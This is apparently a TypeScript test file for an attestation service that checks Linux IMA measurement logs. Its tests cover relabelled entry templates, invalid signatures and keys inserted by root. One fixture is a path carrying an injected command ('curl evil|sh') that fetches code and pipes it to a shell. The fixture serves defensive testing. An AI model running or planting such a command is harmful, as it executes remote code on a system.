import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import type { RuntimeRulesDraft } from '../../../server/policy/runtime-rules.ts';
import type { ResultRecord } from '../../../server/store/records.ts';
import { failures, MeasuredHost, putRules } from '../../support/measured-host.ts';
import { bufferPlan, filePlan, sha256 } from '../../support/measuring-kernel.ts';
import { FILES, importFiles, importKeys } from '../../support/runtime-policy.ts';
import { openHouse, OPERATOR } from '../../support/test-service.ts';
import type { House } from '../../support/test-service.ts';
import { digestField, makeRecord, nameField, number } from '../../tpm/ima/list-builder.ts';
import type { EntryPlan } from '../../tpm/ima/list-builder.ts';
import { ecSigner, rsaSigner, signV2, vouchedFor } from '../../tpm/ima/signing.ts';

let house: House;
beforeEach(async () => {
  house = await openHouse();
});
afterEach(async () => {
  await house[Symbol.asyncDispose]();
  expect(house.faults).toEqual([]);
});

const vendor = rsaSigner();
const LISTED = { ...FILES, referenceSets: ['referenceSets/base'] };
const SIGNED = { ...FILES, keyrings: ['keyrings/vendor'], requireSignature: true };

/** The kernel measures one thing, and the host sends it under the name of another template. */
async function relabelled(
  measured: EntryPlan,
  template: string,
  rules: Partial<RuntimeRulesDraft>,
): Promise<ResultRecord> {
  await importFiles(house.store, ['good']);
  await importKeys(house.store, [vendor]);
  const sha1 = '03'.padEnd(40, 'a');
  const draft = await house.store.openReferenceDraft('base', { expected: 'any', from: 'newest' });
  await house.store.addReferenceEntries(draft, [{ algorithm: 'sha1', digest: sha1, path: '/of-sha1' }]);
  await house.store.commitReferenceDraft(draft, { ...OPERATOR, detail: '' });
  await putRules(house, rules);
  await using host = await MeasuredHost.enrolled(house);
  const data = Buffer.concat([host.kernel.list, makeRecord({ ...measured, template })]);
  host.kernel.extend(measured);
  return await host.round({ logs: [{ kind: 'ima', data, offset: 0 }] });
}

const SCRIPT = '/tmp/;curl\tevil|sh;#';
const ELF = Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(3_000, 7)]);
const OWNER = [number(0, 4), number(0, 4), number(0, 2)];

const RELABELLED: readonly (readonly [string, EntryPlan, string, Partial<RuntimeRulesDraft>])[] = [
  [
    'a script that is its own path, as a buffer',
    {
      template: 'ima-sig',
      fields: [digestField('sha256', sha256(`${SCRIPT}\0`)), nameField(SCRIPT), Buffer.from([3, 1, 1])],
    },
    'd-ng|buf|n-ng',
    { files: LISTED },
  ],
  [
    'the same where signatures are asked for',
    {
      template: 'ima-sig',
      fields: [digestField('sha256', sha256(`${SCRIPT}\0`)), nameField(SCRIPT), Buffer.from([3, 1, 1])],
    },
    'd-ng|buf|n-ng',
    { files: SIGNED },
  ],
  [
    'a program that stands in its own extended attribute, as a buffer',
    {
      template: 'evm-sig',
      fields: [
        bufferPlan('x', ELF).fields[0] ?? Buffer.alloc(0),
        nameField('/tmp/evil'),
        Buffer.alloc(0),
        nameField('security.selinux'),
        number(ELF.length, 4),
        ELF,
        ...OWNER,
      ],
    },
    'd-ng|n-ng|sig|xattrnames|iuid|buf|iuid|igid|imode',
    { files: LISTED },
  ],
  [
    'bytes of a signature as another digest',
    filePlan('/tmp/evil', 'evil', Buffer.from('03'.padEnd(40, 'a'), 'hex')),
    'd-ng|n-ng|d',
    { files: LISTED },
  ],
  [
    'the command line of another kernel as the path of a file that is excluded',
    bufferPlan('kexec-cmdline', Buffer.from('/var/log/x root=/dev/sda')),
    'd-ng|xattrvalues|n-ng',
    {
      files: { ...LISTED, excludes: ['/var/log/*'] },
      otherKernels: { action: 'contraindicated', message: '' },
    },
  ],
  [
    'a signature that is not valid as nothing',
    filePlan('/usr/bin/good', 'good', signV2(vendor, 'sha256', sha256('other'))),
    'd-ng|n-ng|xattrvalues',
    { files: { ...LISTED, keyrings: ['keyrings/vendor'] } },
  ],
];

describe('the name of a template is covered by no hash', () => {
  it.each(RELABELLED)('and makes no good file of %s', async (_name, measured, template, rules) => {
    const result = await relabelled(measured, template, rules);
    expect(result.status).not.toBe('affirming');
    expect(failures(result.checks)).toContain('runtime.list error IMA_ENTRY_UNREADABLE');
  });

  it.each(['d-ng|n-ng', 'd-ng|n-ng|sig', 'd-ngv2|n-ng|sig|iuid|igid|imode'])(
    'and a custom format in the order of the kernel’s own is read: %s',
    async (template) => {
      const owner = template.includes('iuid') ? OWNER : [];
      const signature = template.includes('sig') ? [Buffer.alloc(0)] : [];
      const digest = template.startsWith('d-ngv2')
        ? digestField('ima:sha256', sha256('good'))
        : digestField('sha256', sha256('good'));
      const plan = { template, fields: [digest, nameField('/usr/bin/good'), ...signature, ...owner] };
      expect((await relabelled(plan, template, { files: LISTED })).status).toBe('affirming');
    },
  );

  const none = Buffer.alloc(0);
  it.each<readonly [string, readonly Buffer[]]>([
    ['d-ng|n-ng|buf', [none]],
    ['d-ng|n-ng|sig|d-modsig|modsig', [none, none, none]],
    ['d-ng|n-ng|evmsig|xattrnames|xattrlengths|xattrvalues|iuid|igid|imode', [none, none, none, none, ...OWNER]],
  ])('and one that is a kernel’s own template by its format is read: %s', async (template, others) => {
    const plan = { template, fields: [digestField('sha256', sha256('good')), nameField('/usr/bin/good'), ...others] };
    expect((await relabelled(plan, template, { files: LISTED })).status).toBe('affirming');
  });

  it('and one that has a field twice is not', async () => {
    const plan = {
      template: 'x',
      fields: [
        digestField('sha256', sha256('good')),
        nameField('/usr/bin/good'),
        Buffer.alloc(0),
        number(0, 4),
        number(0, 4),
      ],
    };
    const result = await relabelled(plan, 'd-ng|n-ng|sig|iuid|iuid', { files: LISTED });
    expect(failures(result.checks)).toContain('runtime.list error IMA_ENTRY_UNREADABLE');
  });
});

describe('a key that root extends into the PCR as one of .ima', () => {
  const own = ecSigner('P-256');
  const stranger = rsaSigner();

  it.each([
    ['bare', () => own.spki],
    ['certified by a key that is none of the policy’s', () => vouchedFor(own, stranger)],
    [
      'certified by a key that claims to be one of the policy’s',
      () => vouchedFor(own, { ...stranger, key: vendor.key }),
    ],
  ])('counts for nothing: %s', async (_name, key) => {
    await importKeys(house.store, [vendor]);
    await putRules(house, { files: { ...SIGNED, trustHostKeys: true } });
    await using host = await MeasuredHost.enrolled(house);
    host.kernel.measure(bufferPlan('.ima', key()));
    host.kernel.measure(filePlan('/tmp/evil', 'evil', signV2(own, 'sha256', sha256('evil'))));
    expect((await host.round()).status).toBe('contraindicated');
  });
});
